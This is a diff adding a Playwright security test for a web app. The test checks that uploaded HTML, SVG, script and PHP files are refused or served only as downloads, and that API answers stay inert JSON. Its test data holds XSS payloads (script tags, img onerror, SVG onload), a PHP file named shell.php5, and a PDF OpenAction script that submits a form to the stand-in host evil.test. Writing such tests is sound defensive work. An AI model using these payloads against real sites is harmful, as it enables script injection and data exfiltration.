@@ -1,0 +1,149 @@
+import type { Page } from '@playwright/test';
+import { type Calls } from '../fixtures/calls.ts';
+import { untilQuiet } from '../fixtures/session.ts';
+import { expect, test } from '../fixtures/test.ts';
+
+const SCRIPT = '<script>window.ran = true; alert(1)</script><img src=x onerror="window.ran = true; alert(2)">';
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran = true; alert(3)"><script>alert(4)</script></svg>`;
+const PAGE = `<!doctype html><title>a page</title><b data-hostile>bold</b>${SCRIPT}`;
+const XML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(5)</script></html>`;
+/** A document that would say something when it is opened by a reader that runs its script. */
+const PDF = `%PDF-1.7
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(6); this.submitForm('https://evil.test/');)>>>>endobj
+2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
+trailer<</Root 1 0 R>>
+`;
+const PNG = '\u0089PNG\r\n\u001a\n';
+
+/** As they are called, what they hold, and what the browser that sends them says of what they are. */
+const REFUSED: readonly (readonly [name: string, content: string, type: string])[] = [
+  ['page.html', PAGE, 'text/html'],
+  ['page.HTM', PAGE, 'application/octet-stream'],
+  ['page.xhtml', XML, 'application/xhtml+xml'],
+  ['page.html.', PAGE, 'text/plain'],
+  ['page.shtml', PAGE, 'text/plain'],
+  ['page.mht', PAGE, 'multipart/related'],
+  ['drawing.svg', SVG, 'image/svg+xml'],
+  ['drawing.svgz', SVG, 'image/svg+xml'],
+  ['script.js', 'alert(7)', 'text/javascript'],
+  ['script.mjs', 'alert(7)', 'text/javascript'],
+  ['style.xsl', XML, 'text/xsl'],
+  ['shell.php5', '<?php phpinfo();', 'text/plain'],
+  ['page.pdf', PAGE, 'application/pdf'],
+  ['picture.png', SVG, 'image/png'],
+];
+const TAKEN: readonly (readonly [name: string, content: string, type: string])[] = [
+  ['a page.txt', PAGE, 'text/html'],
+  ['a drawing.txt', SVG, 'image/svg+xml'],
+  ['a page', PAGE, 'application/xhtml+xml'],
+  ['a page.md', PAGE, 'text/html; charset=utf-7'],
+  ['data.xml', XML, 'text/xml'],
+  ['data.rdf', XML, 'application/xhtml+xml'],
+  ['data.json', `{"a": "${PAGE}"}`, 'text/html'],
+  ['both.pdf', `%PDF-1.7\n${PAGE}`, 'text/html'],
+  ['active.pdf', PDF, 'application/pdf'],
+  ['both.png', PNG + PAGE, 'image/png'],
+  ['script.txt', 'window.ran = true; alert(8)', 'text/javascript'],
+  ['nothing said', PAGE, ''],
+];
+
+/** Sends a file as a browser would; gives its signed address, or null where it was refused. */
+async function send(url: string, calls: Calls, gid: number, [name, content, type]: (typeof TAKEN)[number]) {
+  const { token } = await calls.person('submitter');
+  const form = new FormData();
+  form.append('gl', new Blob([Buffer.from(content, 'latin1')], { type }), name);
+  const headers = { authorization: `Bearer ${token}` };
+  const answer = await fetch(`${url}/api/files/${gid}`, { method: 'POST', headers, body: form });
+  if (answer.status === 422) return null;
+  expect(answer.status, name).toBe(201);
+  const { data } = (await answer.json()) as { data: readonly { url: string }[] };
+  return new URL(data[0]?.url ?? '', url).pathname;
+}
+
+/** Scripts that ran say so by a dialog of the browser's own. */
+function listen(page: Page): string[] {
+  const ran: string[] = [];
+  page.on('dialog', (dialog) => {
+    ran.push(dialog.message());
+    void dialog.dismiss();
+  });
+  return ran;
+}
+
+test('files that hold pages and scripts are refused, or handed over without being shown', async ({
+  visit,
+  calls,
+  sample,
+}) => {
+  const gid = await calls.entryIn(0);
+  for (const file of REFUSED) expect(await send(sample.url, calls, gid, file), file[0]).toBeNull();
+
+  const page = await visit('submitter', { expected: /^Refused to execute script|ERR_BLOCKED|MIME type/ });
+  const ran = listen(page);
+  const addresses: string[] = [];
+  for (const file of TAKEN) {
+    const address = await send(sample.url, calls, gid, file);
+    if (address === null) throw new Error(`${file[0]} was refused`);
+    addresses.push(address);
+    const [download] = await Promise.all([page.waitForEvent('download'), page.goto(address).catch(() => undefined)]);
+    expect(download.suggestedFilename()).toBe(file[0]);
+    expect(page.url(), file[0]).toBe('about:blank');
+  }
+
+  // Nor does a page of ours run one that it is led to as its own script.
+  await page.goto('/imprint');
+  await untilQuiet(page);
+  for (const address of addresses) {
+    const loaded = await page.evaluate(
+      `new Promise((done) => {
+        const script = document.createElement('script');
+        script.onload = () => done('run');
+        script.onerror = () => done('refused');
+        script.src = ${JSON.stringify(address)};
+        document.head.append(script);
+      })`,
+    );
+    expect([loaded, address]).toEqual(['refused', address]);
+  }
+  expect(await page.evaluate('window.ran')).toBeUndefined();
+  expect(ran).toEqual([]);
+});
+
+test('an answer of the API that is opened by its address is text, whatever people wrote into it', async ({
+  visit,
+  calls,
+}) => {
+  const gid = await calls.entryIn(50);
+  const { version } = await calls.ok('office', 'GET', `/guidelines/${gid}`);
+  const title = `${SCRIPT}<b data-hostile>`;
+  await calls.ok('office', 'PUT', `/guidelines/${gid}`, { name: title, version });
+  await calls.ok('office', 'POST', `/comments/${gid}`, { comment: PAGE });
+  const { token } = await calls.person('office');
+  const page = await visit(null, { extraHTTPHeaders: { authorization: `Bearer ${token}` } });
+  const ran = listen(page);
+  const inAddress = encodeURIComponent(PAGE);
+  for (const [path, held] of [
+    [`/api/guidelines/${gid}`, title],
+    [`/api/guidelines?query=${encodeURIComponent('img src')}`, title],
+    [`/api/comments/${gid}`, 'a page'],
+    [`/api/logs?limit=5`, 'a page'],
+    ['/api/branding', 'imprint'],
+    ['/api/openapi.json', 'openapi'],
+    [`/api/guidelines?sort=${inAddress}`, 'errors'],
+    [`/api/guidelines/${inAddress}`, 'message'],
+    [`/api/declarations/${inAddress}`, 'message'],
+    [`/api/download/${inAddress}`, 'message'],
+    [`/api/${inAddress}`, 'message'],
+    [`/assets/${inAddress}`, 'message'],
+    ['/.well-known/imprimatur.json', 'change_log_seals'],
+    ['/healthz', 'ok'],
+  ] as const) {
+    await page.goto(path);
+    expect([await page.evaluate('document.contentType'), path]).toEqual(['application/json', path]);
+    expect(await page.locator('[data-hostile], script, img').count(), path).toBe(0);
+    // As it stands in JSON, and as text: nothing of it has become an element.
+    const text = await page.locator('body').innerText();
+    expect([text.includes(JSON.stringify(held).slice(1, -1)), path]).toEqual([true, path]);
+  }
+  expect(ran).toEqual([]);
+});
